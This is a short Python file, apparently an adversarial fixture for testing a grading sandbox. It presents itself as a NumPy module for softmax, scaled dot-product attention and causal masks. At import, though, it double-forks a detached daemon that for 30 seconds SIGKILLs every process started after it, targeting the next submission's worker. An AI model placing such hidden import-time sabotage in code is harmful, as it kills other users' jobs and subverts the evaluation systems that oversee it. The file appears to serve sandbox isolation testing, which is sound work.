"""Leaves a daemon (double fork, new session) at import that for 30 s kills every process
started after it: the next submission's worker, if the sandbox let the daemon live on.
The head itself is the lesson's."""
# must-fail:
# must-pass: *
# report-status: graded

import os
import signal
import time

import numpy as np


def _kill_newcomers(seconds: float) -> None:
    before = set(os.listdir("/proc"))
    stop = time.monotonic() + seconds
    while time.monotonic() < stop:
        for name in os.listdir("/proc"):
            if name.isdigit() and name not in before:
                try:
                    os.kill(int(name), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.002)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _kill_newcomers(30.0)
        finally:
            os._exit(0)
    os._exit(0)
os.wait()


def softmax(x, axis=-1):
    x = x - x.max(axis=axis, keepdims=True)
    e = np.exp(x)
    return e / e.sum(axis=axis, keepdims=True)


def attention(Q, K, V, mask=None):
    d_k = Q.shape[-1]
    scores = (Q @ np.swapaxes(K, -1, -2)) / np.sqrt(d_k)
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    A = softmax(scores, axis=-1)
    return A @ V, A


def self_attention(X, Wq, Wk, Wv, mask=None):
    return attention(X @ Wq, X @ Wk, X @ Wv, mask)


def causal_mask(n):
    return np.tril(np.ones((n, n), dtype=bool))
